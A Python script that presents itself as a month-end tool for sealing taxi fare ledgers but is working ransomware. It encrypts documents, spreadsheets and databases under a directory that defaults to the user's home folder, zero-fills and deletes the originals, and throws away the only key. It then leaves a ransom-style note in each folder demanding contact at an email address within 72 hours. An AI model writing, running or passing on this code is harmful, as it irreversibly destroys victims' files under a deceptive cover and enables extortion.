#!/usr/bin/env python3
"""Seal closed fare ledgers at month end.

Accounting asked for the month's fare exports, card settlement files and
driver statements to be sealed once the books are closed so nobody edits
them afterwards. This walks the share, seals each document and leaves a
note in every folder explaining how to get a sealed file reopened.
"""

import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

SEAL_SUFFIX = ".sealed"
DOC_TYPES = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".db", ".sqlite", ".json", ".txt"}
NOTE_NAME = "HOW_TO_REOPEN.txt"
NOTE_TEXT = (
    "The documents in this folder were sealed.\n"
    "To reopen them you need the seal key for reference {ref}.\n"
    "Write to reopen@example.net with this reference within 72 hours.\n"
    "Do not rename or move the sealed files, or they cannot be recovered.\n"
)


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        # key only lives in memory for this run; reference goes in the note
        self._cipher = Fernet(Fernet.generate_key())
        self.ref = secrets.token_hex(6)
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            # skip hidden folders like .git or .cache
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in DOC_TYPES and not name.endswith(SEAL_SUFFIX):
                    yield p

    def seal_one(self, path):
        data = path.read_bytes()
        token = self._cipher.encrypt(data)
        target = path.with_name(path.name + SEAL_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        target.write_bytes(token)
        # overwrite before unlinking so the plain copy is gone for good
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()

    def leave_note(self, folder):
        note = Path(folder) / NOTE_NAME
        if not note.exists() and not self.dry_run:
            note.write_text(NOTE_TEXT.format(ref=self.ref))

    def run(self):
        touched = set()
        for path in self.candidates():
            try:
                self.seal_one(path)
                self.sealed += 1
                touched.add(path.parent)
            except (OSError, PermissionError) as exc:
                self.failed += 1
                log.debug("could not seal %s: %s", path, exc)
        for folder in touched:
            self.leave_note(folder)
        self._cipher = None
        return self.sealed, self.failed


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--root", default=os.environ.get("FARE_SHARE", "~"),
                   help="share to seal (defaults to FARE_SHARE or home)")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("--quiet", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv or sys.argv[1:])
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    sealer = Sealer(args.root, dry_run=args.dry_run)
    log.info("sealing documents under %s (ref %s)", sealer.root, sealer.ref)
    sealed, failed = sealer.run()
    log.info("done: %d sealed, %d skipped", sealed, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
